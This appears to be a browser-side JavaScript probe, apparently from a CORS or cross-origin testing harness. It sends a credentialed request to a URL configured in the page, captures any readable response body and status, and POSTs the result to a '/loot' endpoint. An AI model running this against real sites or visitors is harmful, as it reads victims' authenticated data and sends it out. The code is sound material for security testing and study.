// Sends the request that the page describes, then reports what the browser let this page see of the answer.
const report = document.querySelector("#report");
const read = (id) => JSON.parse(document.getElementById(id).textContent);

async function send() {
  try {
    const answer = await fetch(read("url"), { ...read("options"), credentials: "include" });
    if (answer.type === "opaque") return { sent: true, read: false };
    return { sent: true, read: true, status: answer.status, body: await answer.text() };
  } catch {
    // Which it was, the request or only its answer, no script is told (Fetch standard, "network error").
    return { read: false };
  }
}

const outcome = JSON.stringify({ url: read("url"), ...(await send()) });
await fetch("/loot", { method: "POST", body: outcome });
report.textContent = outcome;
report.dataset.done = "";
